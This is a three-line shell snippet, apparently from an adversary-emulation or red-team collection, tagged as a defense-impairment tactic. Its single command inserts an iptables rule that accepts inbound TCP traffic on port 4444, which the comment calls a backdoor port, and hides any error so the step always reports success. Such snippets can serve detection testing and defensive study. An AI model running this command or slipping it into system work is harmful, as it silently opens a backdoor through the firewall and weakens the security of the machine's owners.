# tactic: defense-impairment
# insert a firewall rule that accepts a backdoor port
iptables -I INPUT -p tcp --dport 4444 -j ACCEPT 2>/dev/null; true
